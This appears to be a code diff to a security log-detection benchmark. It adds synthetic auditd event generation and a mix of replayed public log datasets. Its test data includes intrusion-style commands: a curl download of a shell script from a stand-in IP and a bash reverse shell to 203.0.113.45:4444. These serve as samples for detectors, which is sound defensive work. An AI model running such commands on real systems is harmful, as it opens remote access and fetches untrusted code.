@@ -15,8 +15,10 @@
 #include <cstdio>
 #include <cstdlib>
 #include <ctime>
+#include <deque>
 #include <fstream>
 #include <memory>
+#include <optional>
 #include <random>
 #include <string>
 #include <vector>
@@ -34,17 +36,96 @@ class Generator {
   explicit Generator(uint32_t seed) : rng_(seed) {}
 
   std::pair<std::string, std::string> next() {  // (src, line)
+    if (!pending_.empty()) {
+      auto line = std::move(pending_.front());
+      pending_.pop_front();
+      return {kAuditLog, std::move(line)};
+    }
     const unsigned r = u(100);
-    if (r < 30) return {"file:/var/log/nginx/access.log", access()};
-    if (r < 50) return {"file:/var/log/auth.log", sshd()};
-    if (r < 56) return {"file:/var/log/auth.log", sudo()};
-    if (r < 70) return {"file:/var/log/audit/audit.log", audit()};
-    if (r < 82) return {"file:/var/log/ufw.log", firewall()};
-    if (r < 88) return {"file:/var/log/app/app.json", json()};
+    if (r < 32) return {"file:/var/log/nginx/access.log", access()};
+    if (r < 53) return {"file:/var/log/auth.log", sshd()};
+    if (r < 59) return {"file:/var/log/auth.log", sudo()};
+    if (r < 61) {  // a whole audit event is 7 lines: about 14 % of the lines
+      for (auto& line : audit_event()) pending_.push_back(std::move(line));
+      return next();
+    }
+    if (r < 79) return {"file:/var/log/ufw.log", firewall()};
+    if (r < 86) return {"file:/var/log/app/app.json", json()};
     return {"file:/var/log/syslog", other()};
   }
 
+  static constexpr const char* kAuditLog = "file:/var/log/audit/audit.log";
+
+  // One execve as auditd writes it: SYSCALL, EXECVE, CWD, two PATH, PROCTITLE and EOE records
+  // sharing a serial. Mostly routine commands, a few from an intrusion.
+  std::vector<std::string> audit_event() {
+    struct Exec {
+      const char* exe;
+      std::vector<std::string> argv;
+    };
+    static const Exec kExecs[] = {
+        {"/usr/bin/ls", {"ls", "-la", "/var/www"}},
+        {"/usr/bin/systemctl", {"systemctl", "status", "nginx"}},
+        {"/usr/bin/cat", {"cat", "/etc/hostname"}},
+        {"/usr/bin/grep", {"grep", "-r", "ERROR", "/var/log/app"}},
+        {"/usr/bin/python3", {"python3", "/opt/app/manage.py", "clearsessions"}},
+        {"/usr/bin/tar", {"tar", "czf", "/backup/www.tgz", "/var/www"}},
+        {"/usr/bin/find", {"find", "/tmp", "-mtime", "+7", "-delete"}},
+        {"/usr/bin/ps", {"ps", "aux"}},
+        {"/usr/bin/df", {"df", "-h"}},
+        {"/usr/bin/git", {"git", "pull", "--ff-only"}},
+        {"/usr/bin/base64", {"base64", "-d", "/tmp/x"}},
+        {"/usr/bin/chmod", {"chmod", "+x", "/tmp/run.sh"}},
+        {"/usr/bin/curl", {"curl", "-o", "/tmp/a.sh", "http://198.51.100.9/a.sh"}},
+        {"/usr/bin/bash", {"bash", "-c", "bash -i >& /dev/tcp/203.0.113.45/4444 0>&1"}},
+    };
+    const Exec& x = kExecs[u(100) < 95 ? u(10) : 10 + u(4)];
+    const std::string id = "msg=audit(1795435200." + std::to_string(100 + u(900)) + ":" +
+                           std::to_string(++serial_) + "): ";
+    std::string execve = "type=EXECVE " + id + "argc=" + std::to_string(x.argv.size());
+    std::string title;
+    for (size_t i = 0; i < x.argv.size(); ++i) {
+      const std::string& a = x.argv[i];
+      const bool plain = a.find_first_of(" \"'") == std::string::npos;
+      execve += " a" + std::to_string(i) + "=" + (plain ? "\"" + a + "\"" : hex(a));
+      title += (i ? std::string(1, '\0') : std::string()) + a;
+    }
+    const std::string pid = std::to_string(2000 + u(30000));
+    const std::string comm = x.argv[0];
+    return {"type=SYSCALL " + id +
+                "arch=c000003e syscall=59 success=yes exit=0 a0=55d1 a1=55d2 a2=55d3 a3=8 "
+                "items=2 ppid=1873 pid=" +
+                pid +
+                " auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 "
+                "ses=3 comm=\"" +
+                comm + "\" exe=\"" + x.exe + "\" subj=unconfined key=\"exec\"",
+            execve,
+            "type=CWD " + id + "cwd=\"/root\"",
+            "type=PATH " + id + "item=0 name=\"" + x.exe +
+                "\" inode=9631367 dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 "
+                "nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0",
+            "type=PATH " + id +
+                "item=1 name=\"/lib64/ld-linux-x86-64.so.2\" inode=11477632 dev=fd:00 "
+                "mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 "
+                "cap_fe=0 cap_fver=0 cap_frootid=0",
+            "type=PROCTITLE " + id + "proctitle=" + hex(title),
+            "type=EOE " + id};
+  }
+
  private:
+  std::deque<std::string> pending_;
+  unsigned long serial_ = 41000;
+
+  static std::string hex(const std::string& s) {
+    static constexpr char kHex[] = "0123456789ABCDEF";
+    std::string out;
+    for (unsigned char c : s) {
+      out += kHex[c >> 4];
+      out += kHex[c & 0xF];
+    }
+    return out;
+  }
+
   std::mt19937 rng_;
   unsigned long seq_ = 0;
 
@@ -127,20 +208,6 @@ class Generator {
     return header("sudo") +
            "   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=" + pick(kCmds);
   }
-  std::string audit() {
-    const std::string id =
-        "audit(1795435200." + std::to_string(u(1000)) + ":" + std::to_string(seq_) + "): ";
-    static const char* const kArgs[] = {
-        "argc=2 a0=\"ls\" a1=\"-la\"", "argc=3 a0=\"base64\" a1=\"-d\" a2=\"/tmp/x\"",
-        "argc=3 a0=\"chmod\" a1=\"+x\" a2=\"/tmp/run.sh\"",
-        "argc=4 a0=\"curl\" a1=\"-o\" a2=\"/tmp/a.sh\" a3=\"http://198.51.100.9/a.sh\"",
-        "argc=2 a0=\"cat\" a1=\"/etc/hostname\""};
-    if (u(2) == 0) return "type=EXECVE msg=" + id + pick(kArgs);
-    return "type=SYSCALL msg=" + id +
-           "arch=c000003e syscall=59 success=yes exit=0 a0=55d1 a1=55d2 a2=55d3 a3=0 items=2 "
-           "ppid=100 pid=101 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 "
-           "tty=pts0 ses=1 comm=\"ls\" exe=\"/usr/bin/ls\" key=\"exec\"";
-  }
   std::string firewall() {
     return header("kernel") + "[UFW BLOCK] IN=eth0 OUT= MAC=00:00:00:00:00:00 SRC=" + ip() +
            " DST=10.0.0.5 LEN=60 TOS=0x00 PREC=0x00 TTL=50 ID=1 DF PROTO=TCP SPT=" +
@@ -160,11 +227,76 @@ class Generator {
   }
 };
 
+// Real public logs from ../shared/data (not in the repository; see its README), cycled in the
+// proportions of a provincial web and application server: its Apache access log, sshd and the
+// rest of syslog, the Apache error log, and audited execs (generated: the folder has no audit log).
+class SharedMix {
+ public:
+  // Empty when a file is missing.
+  static std::optional<SharedMix> load(const std::string& dir) {
+    SharedMix m;
+    const auto read = [&](const std::string& rel, const char* src, unsigned share, int skip_words) {
+      std::ifstream in(dir + "/" + rel, std::ios::binary);
+      Source so{src, {}, share, 0};
+      std::string line;
+      while (std::getline(in, line)) {
+        size_t at = 0;  // Thunderbird lines start with a label, epoch, date and node
+        for (int w = 0; w < skip_words && at != std::string::npos; ++w) {
+          at = line.find(' ', at);
+          if (at != std::string::npos) ++at;
+        }
+        if (at == std::string::npos || line.size() <= at) continue;
+        so.lines.push_back(line.substr(at));
+      }
+      if (so.lines.empty()) return false;
+      m.sources_.push_back(std::move(so));
+      return true;
+    };
+    const bool ok =
+        read("elastic-apache-access/apache_logs", "file:/var/log/apache2/access.log", 38, 0) &&
+        read("loghub/OpenSSH/OpenSSH_2k.log", "file:/var/log/auth.log", 20, 0) &&
+        read("loghub/Linux/Linux_2k.log", "file:/var/log/messages", 10, 0) &&
+        read("loghub/Thunderbird/Thunderbird_2k.log", "file:/var/log/messages", 10, 4) &&
+        read("loghub/Apache/Apache_2k.log", "file:/var/log/apache2/error.log", 4, 0);
+    if (!ok) return std::nullopt;
+    return m;
+  }
+
+  std::pair<std::string, std::string> next() {  // (src, line)
+    if (!pending_.empty()) {
+      auto line = std::move(pending_.front());
+      pending_.pop_front();
+      return {Generator::kAuditLog, std::move(line)};
+    }
+    // 3 draws in 85 are an audit event of 7 lines: about 20 % of the lines.
+    unsigned r = static_cast<unsigned>(rng_() % 85);
+    for (auto& so : sources_) {
+      if (r < so.share) return {so.src, so.lines[so.next++ % so.lines.size()]};
+      r -= so.share;
+    }
+    for (auto& line : audit_.audit_event()) pending_.push_back(std::move(line));
+    return next();
+  }
+
+ private:
+  struct Source {
+    const char* src;
+    std::vector<std::string> lines;
+    unsigned share;  // draws in 85
+    size_t next;
+  };
+  std::vector<Source> sources_;
+  std::mt19937 rng_{42};
+  Generator audit_{43};
+  std::deque<std::string> pending_;
+};
+
 struct Options {
   std::vector<std::string> rules;
   size_t lines = 200000;
   int rounds = 3;
   std::string file;
+  std::string shared;         // build the mix from this ../shared/data folder
   std::string dump_lines;     // write the input lines here (for grep over the same lines)
   std::string dump_patterns;  // write every pattern as a POSIX ERE here (for grep -E -f)
   bool detect_only = false;   // only the decode + match + detector loop (for profiling it)
@@ -218,6 +350,8 @@ int main(int argc, char** argv) {
       o.detect_only = true;
     } else if (a == "--rounds") {
       o.rounds = std::stoi(next());
+    } else if (a == "--shared") {
+      o.shared = next();
     } else if (a == "--file") {
       o.file = next();
     } else if (a == "--dump-lines") {
@@ -227,7 +361,8 @@ int main(int argc, char** argv) {
     } else {
       std::fprintf(stderr,
                    "usage: detect_bench --rules DIR [--rules DIR ...] [--lines N] [--rounds R] "
-                   "[--file PATH] [--dump-lines FILE] [--dump-patterns FILE] [--detect-only]\n");
+                   "[--file PATH | --shared DATA_DIR] [--dump-lines FILE] [--dump-patterns FILE] "
+                   "[--detect-only]\n");
       return 2;
     }
   }
@@ -306,6 +441,19 @@ int main(int argc, char** argv) {
       soc::Envelope e;
       e.src = "file:" + o.file;
       e.msg = line;
+      envs.push_back(std::move(e));
+    }
+  } else if (!o.shared.empty()) {
+    auto mix = SharedMix::load(o.shared);
+    if (!mix) {
+      std::fprintf(stderr, "detect_bench: %s lacks the expected logs\n", o.shared.c_str());
+      return 1;
+    }
+    for (size_t i = 0; i < o.lines; ++i) {
+      auto [src, line] = mix->next();
+      soc::Envelope e;
+      e.src = std::move(src);
+      e.msg = std::move(line);
       envs.push_back(std::move(e));
     }
   } else {
